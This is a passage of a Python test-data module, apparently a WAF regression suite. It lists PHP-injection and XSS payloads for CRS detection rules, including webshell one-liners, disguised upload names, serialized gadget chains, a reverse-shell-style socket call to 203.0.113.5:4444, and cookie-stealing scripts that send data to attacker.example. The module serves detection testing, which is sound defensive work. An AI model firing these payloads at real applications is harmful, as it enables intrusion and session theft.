"""Blind set "seventyeighth": the positive regression tests an eighth rule author writes for the PHP-injection and
XSS detection titles of CRS 3.3.4 (request rules at paranoia levels 1-2) and the few PHP/XSS titles CRS 4.x added,
from the titles alone, with benign requests that carry the same words innocently.

Angle: for every title, the canonical attack the title names, then one test per alternative of the title's family
(each open tag, upload extension, ini directive, superglobal, stream, wrapper, function, serialized type, callee
shape; each script/event/attribute/URI vector, each legacy IE filter tag, UTF-7, US-ASCII, JSFuck, globals,
AngularJS), then the variants a good rule must still catch: other quoting, casing, whitespace and comment
substitutes, concatenation, and the encodings a server decodes (URL, double URL, HTML entities, unicode escapes
in JSON). Written as payloads appear in real attacks on many kinds of applications (PHP CMSs, Java apps, Node APIs,
CGI scripts, IIS), not only ours.

Families and sub-families (one sub-family per detection title, kebab-case from the title):
  php: php-open-tag (933100), php-script-file-upload (933110), php-configuration-directive (933120),
       php-variables (933130), php-io-stream (933140), php-wrapper-scheme (933200),
       php-high-risk-function-name (933150), php-high-risk-function-call (933160),
       php-serialized-object-injection (933170), php-variable-function-call (933180),
       php-variable-function-call-string (933210), php-medium-risk-function-name (933151)
  xss: xss-libinjection (941100), xss-libinjection-path-referer (941101), script-tag-vector (941110),
       event-handler-vector (941120), attribute-vector (941130), javascript-uri-vector (941140),
       disallowed-html-attributes (941150), noscript-html-injection (941160), noscript-attribute-injection (941170),
       node-validator-blacklist (941180), ie-xss-style (941190), ie-xss-vmlframe (941200),
       ie-xss-obfuscated-javascript (941210), ie-xss-obfuscated-vbscript (941220), ie-xss-embed (941230),
       ie-xss-import (941240), ie-xss-meta-http-equiv (941250), ie-xss-meta-charset (941260), ie-xss-link (941270),
       ie-xss-base (941280), ie-xss-applet (941290), ie-xss-object (941300), html-tag-handler (941320),
       ie-xss-quote-property (941330), ie-xss-quote-member-assignment (941340),
       us-ascii-malformed-encoding (941310), utf7-encoding (941350), jsfuck-hieroglyphy (941360),
       javascript-global-variable (941370), angularjs-template-injection (941380),
       javascript-method (4.x), javascript-function-without-parentheses (4.x)
  The twelve "IE XSS Filters - Attack Detected" titles share one message; each got the legacy IE filter family the
  author knows it by (style, vmlframe, obfuscated javascript:/vbscript:, embed, import, meta, link, base, applet,
  object, quote-led property and member assignments).

Placements: every payload is sent twice. Once to our real routes, rotating over: query of /api/users ("query"),
the admin search form with csrf_token ("form"), a JSON field of POST /api/users or PATCH /api/users/42 ("json"),
a cookie ("cookie"), the User-Agent, the Referer or another header ("header:<name>"), a query parameter name
("param-name"), an XML body ("xml"), a multipart field or filename ("multipart-field", "multipart-filename") and the
URL path ("path"). Once the way a WAF regression suite sends it ("rs-" placements): to paths that are not our
routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names
(foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body that is not
key=value, or in the User-Agent, Referer, a custom header or a cookie. Upload filenames go where uploads carry
them (multipart filename, X-File-Name / X-Filename); the path/Referer title goes to paths and Referers.

Benign half: the same words as real users type them: developer chat in Slack (escaped as Slack escapes it) and
the same text as profile bios, people and role searches, admin notes, documentation links, names and addresses,
browser User-Agents, Referers and cookies, uploads with ordinary filenames, XML profiles and user paths.

Authorship and independence: written from general knowledge and the detection titles alone; no WAF rule, engine
code, ruleset regression test or public payload list was read, and no other blind set. Measured once on unchanged
code and not edited after the measurement. Deterministic (seeded random only).
"""

from __future__ import annotations

import html
import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import slack_message
from .records import print_records, slack_escape

NAME = "seventyeighth"

# A payload is either plain text (each placement encodes it as a client would), or ("url", s): already
# percent-encoded on the wire (sent as-is in URLs, form bodies, cookies), or ("json", s): already the inside of a
# JSON string with its escapes (sent as-is inside a JSON string).
Entry = str | tuple[str, str]


def url(s: str) -> tuple[str, str]:
    return ("url", s)


def jsn(s: str) -> tuple[str, str]:
    return ("json", s)


PHP_OPEN_TAG: list[Entry] = [
    "<?php system($_GET['cmd']); ?>",
    "<?PHP echo shell_exec('id');?>",
    "<?=`id`?>",
    "<? passthru(\"cat /etc/passwd\"); ?>",
    "<?php\n@eval($_POST['x']);",
    "<?php/**/phpinfo();",
    "[php]echo file_get_contents('/etc/passwd');[/php]",
    "GIF89a<?php echo 'ok'; system($_REQUEST['c']); ?>",
    "<script language=\"php\">system(\"id\");</script>",
    "name=<?php eval(base64_decode('c3lzdGVtKCJpZCIpOw==')); ?>",
    url("%3C%3Fphp%20system%28%22id%22%29%3B%3F%3E"),
    url("%253C%253Fphp%2520phpinfo%28%29%3B%253F%253E"),
    jsn("\\u003c?php echo md5(1); ?\\u003e"),
]

PHP_UPLOAD: list[Entry] = [
    "shell.php",
    "avatar.php5",
    "image.phtml",
    "cmd.PHP",
    "backdoor.php7",
    "x.php3",
    "invoice.pdf.php",
    "photo.php.",
    "upload.phar",
    "thumb.pht",
    "cv.php4",
    "shell.php%00.jpg",
    "logo.jpg.pHtMl",
    "s.phps",
]

PHP_INI: list[Entry] = [
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "auto_append_file=/var/www/uploads/x.gif",
    "disable_functions=",
    "open_basedir=/",
    "safe_mode = Off",
    "php_value auto_prepend_file \"/tmp/sess_abc123\"",
    "register_globals=1",
    "allow_url_fopen = 1",
    "error_log=/var/www/html/shell.php",
    "sendmail_path=/tmp/x.sh",
    "ini_set('open_basedir', '/');",
    url("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp%3A%2F%2Finput"),
    url("allow_url_include%3DOn%0Aauto_prepend_file%3Ddata%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHAgcGhwaW5mbygpOz8%2B"),
]

PHP_VARIABLES: list[Entry] = [
    "$_GET['cmd']",
    "$_POST[0]",
    "$_REQUEST[\"x\"]",
    "$_COOKIE['session']",
    "$_SERVER['HTTP_USER_AGENT']",
    "$_ENV",
    "$_FILES['f']['tmp_name']",
    "$_SESSION['is_admin']=1",
    "$GLOBALS['config']",
    "$HTTP_RAW_POST_DATA",
    "$HTTP_POST_VARS",
    "$http_response_header",
    "echo $_SERVER [ 'DOCUMENT_ROOT' ];",
    url("%24_SERVER%5B%27DOCUMENT_ROOT%27%5D"),
    jsn("\\u0024_GET[\\\"c\\\"]"),
]

PHP_IO_STREAM: list[Entry] = [
    "php://input",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://stdin",
    "php://fd/3",
    "php://memory",
    "php://temp/maxmemory:1048576",
    "php://output",
    "php://stderr",
    "PHP://Input",
    "php://filter/read=string.rot13|convert.iconv.utf-8.utf-16/resource=config.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    url("php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dwp-config.php"),
    url("php%253A%252F%252Finput"),
    jsn("php:\\/\\/filter\\/resource=\\/etc\\/passwd"),
]

PHP_WRAPPER: list[Entry] = [
    "phar:///var/www/uploads/avatar.jpg/test.txt",
    "zip://uploads/shell.zip#cmd.php",
    "zlib:///etc/passwd",
    "compress.zlib:///var/www/html/config.php",
    "compress.bzip2:///var/backups/site.bz2",
    "glob:///var/www/html/*.php",
    "expect://id",
    "expect://cat /etc/passwd",
    "ssh2.exec://user:pass@127.0.0.1:22/usr/bin/id",
    "ssh2.shell://user:pass@example.com:22/xterm",
    "rar://uploads/archive.rar#payload.php",
    "ogg://uploads/audio.ogg",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
    "ZIP://avatar.png#shell.php",
    url("phar%3A%2F%2F.%2Fuploads%2Fimg.jpg"),
    url("expect%253A%252F%252Fwhoami"),
    jsn("glob:\\/\\/\\/etc\\/*"),
]

PHP_FUNC_NAME: list[Entry] = [
    "passthru",
    "shell_exec",
    "proc_open",
    "pcntl_exec",
    "phpinfo",
    "base64_decode",
    "create_function",
    "fsockopen",
    "call_user_func_array",
    "file_put_contents",
    "popen",
    "SHELL_EXEC",
    "$cb = 'proc_open';",
    url("%70assthru"),
    jsn("\\u0073hell_exec"),
]

PHP_FUNC_CALL: list[Entry] = [
    "system('id');",
    "exec(\"whoami\", $out);",
    "shell_exec('cat /etc/passwd')",
    "passthru (\"uname -a\");",
    "phpinfo()",
    "eval($_POST['x'])",
    "assert(\"phpinfo()\")",
    "proc_open('sh', $d, $p)",
    "popen('id', 'r')",
    "pcntl_exec('/bin/sh', ['-c', 'id'])",
    "system/**/('id')",
    "SyStEm\t('id')",
    "fsockopen(\"203.0.113.5\", 4444)",
    "create_function('', 'system(\"id\");')",
    url("system%28%27id%27%29"),
    url("shell_exec%2528%2527id%2527%2529"),
    jsn("passthru\\u0028'id'\\u0029"),
]

PHP_SERIALIZED: list[Entry] = [
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "O:+4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}",
    "a:1:{i:0;O:6:\"Logger\":1:{s:7:\"logfile\";s:18:\"/var/www/shell.php\";}}",
    "C:11:\"ArrayObject\":33:{x:i:0;a:0:{};m:a:0:{}}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\\0*\\0events\";O:15:\"Faker\\Generator\":1:"
    "{s:13:\"\\0*\\0formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\\0*\\0event\";s:2:\"id\";}",
    "}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}s:21:\"\\0\\0\\0"
    "disconnectHandlers\";a:1:{i:0;a:2:{i:0;O:9:\"SimplePie\":1:{s:8:\"feed_url\";s:4:\"test\";}i:1;s:4:\"init\";}}}",
    "O:24:\"GuzzleHttp\\Psr7\\FnStream\":2:{s:33:\"GuzzleHttp\\Psr7\\FnStreammethods\";a:1:{s:5:\"close\";"
    "s:7:\"phpinfo\";}s:9:\"_fn_close\";s:7:\"phpinfo\";}",
    "o:4:\"Test\":0:{}",
    "O:4:\"Test\":1:{s:1:\"x\";R:1;}",
    "a:2:{s:4:\"user\";s:5:\"admin\";s:4:\"role\";O:4:\"Role\":1:{s:5:\"level\";i:99;}}",
    "x|O:10:\"Shell_Exec\":0:{}",
    url("O%3A9%3A%22FileCache%22%3A1%3A%7Bs%3A4%3A%22path%22%3Bs%3A14%3A%22%2Fvar%2Fwww%2Fx.php%22%3B%7D"),
    url("O%253A4%253A%2522Mail%2522%253A0%253A%257B%257D"),
    jsn("O:6:\\\"Config\\\":1:{s:3:\\\"cmd\\\";s:2:\\\"id\\\";}"),
]

PHP_VAR_FUNC: list[Entry] = [
    "$a='system';$a('id');",
    "$_GET['f']($_GET['c']);",
    "$_POST[0]($_POST[1])",
    "${'_GET'}['x']('id')",
    "$f ('whoami')",
    "$func/**/('cat /etc/passwd')",
    "$x#\n('id')",
    "$cb[0]('ls')",
    "$$name('id')",
    "$obj{0}('id')",
    "@$_REQUEST['a']($_REQUEST['b'])",
    "${@eval($_POST[1])}",
    url("%24f%28%27id%27%29"),
    jsn("\\u0024x(\\\"uname -a\\\")"),
]

PHP_VAR_FUNC_STRING: list[Entry] = [
    "('system')('id');",
    "\"passthru\"('whoami');",
    "('sys'.'tem')('ls -la');",
    "(sy.(st).em)('id')",
    r'"\x73\x79\x73\x74\x65\x6d"(' + "'id');",
    r'"\163\171\163\164\145\155"("id")',
    "(base64_decode('c3lzdGVt'))('id')",
    "['Closure','fromCallable']('system')('id')",
    "((string)'system')('id')",
    "'shell_exec'/**/('id')",
    "array('system')[0]('id')",
    "(str_rot13('flfgrz'))('id')",
    "(\"pass\".\"thru\")(\"cat /etc/hosts\")",
    url("%28%27system%27%29%28%27id%27%29"),
    jsn("(\\\"exec\\\")(\\\"id\\\")"),
]

PHP_MEDIUM: list[Entry] = [
    "getenv('DB_PASSWORD')",
    "putenv('LD_PRELOAD=/tmp/x.so')",
    "ini_get_all()",
    "posix_getpwuid(posix_geteuid())",
    "php_uname()",
    "get_defined_vars()",
    "scandir('/var/www')",
    "symlink('/etc/passwd', 'x.txt')",
    "chmod('shell.php', 0777)",
    "curl_exec($ch)",
    "stream_socket_client('tcp://203.0.113.5:4444')",
    "mail('a@example.com','x','x','','-OQueueDirectory=/tmp -X/var/www/x.php')",
    "parse_ini_file('/etc/php.ini')",
    "apache_setenv",
    "move_uploaded_file",
]

XSS_LIBINJECTION: list[Entry] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "\"><svg/onload=alert(document.domain)>",
    "'><iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert('xss')>",
    "<details open ontoggle=confirm(1)>",
    "\" onmouseover=\"alert(1)",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<IMG SRC=javascript:alert('XSS')>",
    url("%3Cimg%20src%3Dx%20onerror%3Dprompt%281%29%3E"),
    url("%253Cscript%253Ealert%25281%2529%253C%252Fscript%253E"),
    jsn("\\u003csvg onload=alert(1)\\u003e"),
]

XSS_LIBINJECTION_PL2: list[Entry] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg onload=alert(document.cookie)>",
    "'><script src=https://attacker.example/x.js></script>",
    "<iframe src=javascript:alert(1)>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>",
    "javascript:alert(document.domain)//",
    "<img src=1 onerror=fetch('//attacker.example/?c='+document.cookie)>",
    "\"><a href=javascript:alert(1)>x</a>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    url("%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
]

SCRIPT_TAG: list[Entry] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//attacker.example/xss.js></SCRIPT>",
    "<script type=\"text/javascript\">document.location='https://attacker.example/?c='+document.cookie</script>",
    "<script/src=data:,alert(1)>",
    "<script >alert(1)</script >",
    "<sCrIpT>confirm(1)</ScRiPt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(document.domain)</script>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    url("%3Cscript%3Ealert%28%27xss%27%29%3C%2Fscript%3E"),
    url("%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    jsn("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
]

EVENT_HANDLER: list[Entry] = [
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "\" onmouseover=alert(1) x=\"",
    "' onfocus='alert(1)' autofocus='",
    "<svg onload=alert(1)>",
    "<div onpointerenter=alert(1)>hover</div>",
    "<details ontoggle=alert(1) open>",
    "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationstart=\"alert(1)\"></xss>",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x ONERROR  =  alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<marquee loop=1 width=0 onfinish=alert(1)>",
    url("%22%20onmouseover%3D%22alert(1)"),
    jsn("\\u003cimg src=x onerror=\\\"alert(1)\\\"\\u003e"),
]

ATTRIBUTE_VECTOR: list[Entry] = [
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<form><button formaction=\"javascript:alert(1)\">go</button></form>",
    "<input type=text pattern=\"^a$\" value=\"b\" oninvalid=\"alert(1)\" required>",
    "<!DOCTYPE x [<!ENTITY xss SYSTEM \"https://attacker.example/x.xml\">]>",
    "<!ENTITY % remote PUBLIC \"x\" \"https://attacker.example/e.dtd\">",
    "<style>@import 'https://attacker.example/x.css';</style>",
    "<link rel=\"stylesheet\" href=\"data:text/css;base64,Ym9keXtiYWNrZ3JvdW5kOnJlZH0=\">",
    "<svg><use xlink:href=\"data:image/svg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x\"/></svg>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">CLICK</maction></math>",
    url("%3Ciframe%20src%3D%22data%3Atext%2Fhtml%2C%3Cscript%3Ealert(1)%3C%2Fscript%3E%22%3E"),
    jsn("\\u003ca xlink:href=\\\"javascript:alert(1)\\\"\\u003ex\\u003c/a\\u003e"),
]

JAVASCRIPT_URI: list[Entry] = [
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<body background=\"javascript:alert('XSS')\">",
    "<table background=javascript:alert(1)>",
    "<a href=\"javascript:alert(document.cookie)\">x</a>",
    "<iframe src=\"javascript:alert(1)\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<li style=\"list-style-image:url(javascript:alert(1))\">x</li>",
    "<p style=\"color:red;background:url(javascript:alert(2))\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1);\">",
    "<input type=\"image\" src=\"javascript:alert(1);\">",
    "<a href=\"  JaVaScRiPt:alert(1)\">",
    "style=color:red;background:url(javascript:alert(1))",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    url("%3Ca%20href%3D%22javascript%3Aalert(1)%22%3Ex%3C%2Fa%3E"),
    jsn("\\u003cdiv style=\\\"background:url(javascript:alert(1))\\\"\\u003e"),
]

DISALLOWED_ATTRS: list[Entry] = [
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert('XSS')\">",
    "<xml id=x><x><c><![CDATA[<img src=javascript:alert(1)>]]></c></x></xml><span datasrc=#x datafld=c "
    "dataformatas=html></span>",
    "\"><a href=//attacker.example/login>Session expired, log in again</a>",
    "<form action=//attacker.example/collect method=post>",
    "<button formaction=//attacker.example>Submit</button>",
    "<td background=\"javascript:alert(1)\">",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onclick=\"alert(1)\">",
    "<video poster=javascript:alert(1)//></video>",
    "<iframe src=//attacker.example/frame>",
    "\" style=\"background:url(//attacker.example/pixel)",
    "<IMG DYNSRC = x.avi>",
    url("%3Cimg%20lowsrc%3D%22javascript%3Aalert(1)%22%3E"),
    jsn("\\u003cinput type=image src=x formaction=\\\"//attacker.example\\\"\\u003e"),
]

NOSCRIPT_HTML: list[Entry] = [
    "<svg/onload=alert(1)>",
    "<form action=\"https://attacker.example/steal\"><input name=pw type=password>",
    "<style>*{background:url(//attacker.example/?leak)}</style>",
    "<marquee onstart=alert(1)>",
    "<link rel=import href=//attacker.example/x>",
    "<object data=//attacker.example/x.swf>",
    "<embed src=//attacker.example/x.swf>",
    "<applet code=\"Exploit.class\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<base href=//attacker.example/>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    url("%3Csvg%2Fonload%3Dalert%281%29%3E"),
    jsn("\\u003cform action=\\\"//attacker.example\\\"\\u003e\\u003cbutton\\u003eLogin\\u003c/button\\u003e"
        "\\u003c/form\\u003e"),
]

NOSCRIPT_ATTR: list[Entry] = [
    "javascript:alert(1)",
    "javascript:void(location='//attacker.example/?'+document.cookie)",
    "JAVASCRIPT:alert(document.domain)",
    "javascript:\\u0061lert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;charset=utf-8,<svg onload=alert(1)>",
    "@import url(//attacker.example/x.css);",
    "@im\\port'\\ja\\vasc\\ript:alert(1)';",
    "-moz-binding:url(//attacker.example/xss.xml#xss)",
    "x\" style=\"-moz-binding:url(http://attacker.example/b.xml#x)",
    url("javascript://%0aalert(1)"),
    url("javascript%3Aalert%28document.cookie%29"),
    jsn("data:text\\/html,\\u003cscript\\u003ealert(1)\\u003c\\/script\\u003e"),
]

NODE_VALIDATOR: list[Entry] = [
    "document.cookie",
    "document.write('<iframe src=//attacker.example>')",
    "this.parentNode.innerHTML='<b>x</b>'",
    "el.innerHTML = location.hash.slice(1)",
    "window.location='https://attacker.example/?'+document.cookie",
    "-moz-binding:url(//attacker.example/x.xml#y)",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "DOCUMENT.COOKIE",
    "new Image().src='//attacker.example/?c='+document['cookie']",
    url("document%2Ecookie"),
    url("window%252Elocation%253D%2527%252F%252Fattacker.example%2527"),
    jsn("document\\u002ecookie"),
]

IE_STYLE: list[Entry] = [
    "<style>@import 'http://attacker.example/xss.css';</style>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>li{list-style-image:url(\"javascript:alert('XSS')\");}</style><ul><li>x</li></ul>",
    "<style>div{width:expression(alert(1))}</style>",
    "<style type=\"text/css\">BODY{-moz-binding:url(\"http://attacker.example/xssmoz.xml#xss\")}</style>",
    "<STYLE>.x{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=x></A>",
    "<style>*{x:e\\xpression(alert(1))}</style>",
    "<style>a{color&#x3A;expression&#x28;alert(1)&#x29;}</style>",
    url("%3Cstyle%3E%40import%20%27%2F%2Fattacker.example%2Fx.css%27%3B%3C%2Fstyle%3E"),
    jsn("\\u003cstyle\\u003ebody{behavior:url(x.htc)}\\u003c/style\\u003e"),
]

IE_VMLFRAME: list[Entry] = [
    "<v:vmlframe src=\"//attacker.example/x.vml#xss\">",
    "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"http://attacker.example/x.vml#a\"></v:vmlframe>",
    "<vmlframe src=foo.vml#x>",
    "<x:vmlframe/src=\"javascript:alert(1)\">",
    "<V:VMLFRAME SRC=\"data:text/xml,x#x\">",
    "<v:vmlframe  src = //attacker.example/vml>",
    "<?xml:namespace prefix=\"v\" ns=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"//attacker.example/a.vml#b\">",
    "<vmlframe+src=x.vml>",
    url("%3Cv%3Avmlframe%20src%3D%22%2F%2Fattacker.example%2Fx.vml%23x%22%3E"),
    jsn("\\u003cv:vmlframe src=\\\"//attacker.example/x.vml#y\\\"\\u003e"),
]

IE_OBF_JAVASCRIPT: list[Entry] = [
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<img src=\"jav\tascript:alert('XSS');\">",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<iframe src=\"javas&#x0D;cript:alert(1)\">",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041",
    "j&#97;v&#97;script:alert(1)",
    url("jav%09ascript%3Aalert(1)"),
    url("java%0Ascript:alert(1)"),
    jsn("jav\\tascript:alert(1)"),
]

IE_OBF_VBSCRIPT: list[Entry] = [
    "vbscript:msgbox(\"XSS\")",
    "<a href=\"vbscript:MsgBox(1)\">x</a>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<a href=\"vb&#x09;script:msgbox(1)\">x</a>",
    "<a href=\"&#118;&#98;script:msgbox(1)\">x</a>",
    "<iframe src=\"vbs&#x0A;cript:Execute(MsgBox(1))\">",
    "VBSCRIPT:alert(document.cookie)",
    "<meta http-equiv=\"refresh\" content=\"0;url=vbscript:msgbox(1)\">",
    "vb&Tab;script:msgbox(1)",
    url("vb%09script%3Amsgbox(1)"),
    jsn("v\\u0062script:MsgBox(\\\"x\\\")"),
]

IE_EMBED: list[Entry] = [
    "<embed src=\"//attacker.example/xss.swf\" allowscriptaccess=always>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<embed type=\"application/x-shockwave-flash\" src=\"x.swf\">",
    "<embed/src=//attacker.example/x.swf>",
    "<embed src=javascript:alert(1)>",
    "<embed\nsrc=\"x.svg\">",
    "<embed+src=x.swf>",
    "<EmBeD sRc=\"//attacker.example/a.html\" type=\"text/html\">",
    url("%3Cembed%20src%3D%22%2F%2Fattacker.example%2Fx.swf%22%3E"),
    jsn("\\u003cembed src=\\\"//attacker.example/x.swf\\\"\\u003e"),
]

IE_IMPORT: list[Entry] = [
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<html xmlns:xss><?import namespace=\"xss\" implementation=\"http://attacker.example/xss.htc\"><xss:xss>XSS"
    "</xss:xss></html>",
    "<import implementation=\"//attacker.example/x.htc\">",
    "<?IMPORT NAMESPACE=\"x\" IMPLEMENTATION=\"x.htc\">",
    "<?import implementation = \"javascript:alert(1)\">",
    "<?import/implementation=\"//attacker.example/a.htc\">",
    "<import+implementation=x.htc>",
    "<?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" "
    "to=\"XSS&lt;SCRIPT DEFER&gt;alert(1)&lt;/SCRIPT&gt;\">",
    url("%3C%3Fimport%20namespace%3D%22x%22%20implementation%3D%22%2F%2Fattacker.example%2Fx.htc%22%3E"),
    jsn("\\u003c?import namespace=\\\"x\\\" implementation=\\\"#default#time2\\\"\\u003e"),
]

IE_META: list[Entry] = [
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
    "<meta http-equiv=refresh content=\"0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<meta http-equiv=\"content-security-policy\" content=\"script-src *\">",
    "<meta/http-equiv=refresh/content=0;url=//attacker.example>",
    "<META HTTP-EQUIV='&#x72;efresh' CONTENT='0;url=//attacker.example'>",
    "<meta http-equiv = 'Refresh' content='1;URL=//attacker.example/phish'>",
    url("%3Cmeta%20http-equiv%3D%22refresh%22%20content%3D%220%3Burl%3D%2F%2Fattacker.example%22%3E"),
    jsn("\\u003cmeta http-equiv=\\\"refresh\\\" content=\\\"0;url=//attacker.example\\\"\\u003e"),
]

IE_META_CHARSET: list[Entry] = [
    "<meta charset=\"UTF-7\">",
    "<META CHARSET=x-user-defined>",
    "<meta content=\"text/html\" charset=\"utf-7\">",
    "<meta/charset=utf-7>",
    "<meta charset = \"ISO-2022-JP\">",
    "<meta+charset=UTF-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<meta name=\"x\" charset=\"utf-16\">",
    "<MeTa ChArSeT=utf-7>",
    url("%3Cmeta%20charset%3D%22utf-7%22%3E"),
    jsn("\\u003cmeta charset=\\\"utf-7\\\"\\u003e"),
]

IE_LINK: list[Entry] = [
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://attacker.example/xss.css\">",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<link/rel=stylesheet/href=//attacker.example/a.css>",
    "<link rel=\"prefetch\" href=\"//attacker.example/track\">",
    "<link href = \"//attacker.example/x.css\" rel = \"stylesheet\">",
    "<LiNk rel=icon href=javascript:alert(1)>",
    "<link rel=\"alternate\" type=\"application/rss+xml\" href=\"vbscript:msgbox(1)\">",
    url("%3Clink%20rel%3Dstylesheet%20href%3D%2F%2Fattacker.example%2Fx.css%3E"),
    jsn("\\u003clink rel=\\\"import\\\" href=\\\"//attacker.example/x.html\\\"\\u003e"),
]

IE_BASE: list[Entry] = [
    "<base href=\"javascript:alert('XSS');//\">",
    "<BASE HREF=\"//attacker.example/\">",
    "<base href=\"http://attacker.example/\"><script src=\"/app.js\"></script>",
    "<base/href=//attacker.example>",
    "<base target=\"_blank\" href=\"https://attacker.example/\">",
    "<base href = \"data:text/html,x\">",
    "<BaSe HrEf=//attacker.example/static/>",
    "<base+href=//attacker.example>",
    url("%3Cbase%20href%3D%22%2F%2Fattacker.example%2F%22%3E"),
    jsn("\\u003cbase href=\\\"//attacker.example/\\\"\\u003e"),
]

IE_APPLET: list[Entry] = [
    "<applet code=\"Exploit.class\" codebase=\"//attacker.example/\">",
    "<APPLET CODE=\"javascript:alert(1)\">",
    "<applet>",
    "<applet/code=x.class>",
    "<applet archive=\"//attacker.example/payload.jar\" code=\"Main.class\" width=1 height=1></applet>",
    "<ApPlEt code=x>",
    "<applet+code=x.class>",
    "</p><applet codebase=\"http://attacker.example\" code=\"Shell\"><param name=\"cmd\" value=\"calc\"></applet>",
    url("%3Capplet%20code%3D%22x.class%22%3E"),
    jsn("\\u003capplet code=\\\"Exploit\\\"\\u003e\\u003c/applet\\u003e"),
]

IE_OBJECT: list[Entry] = [
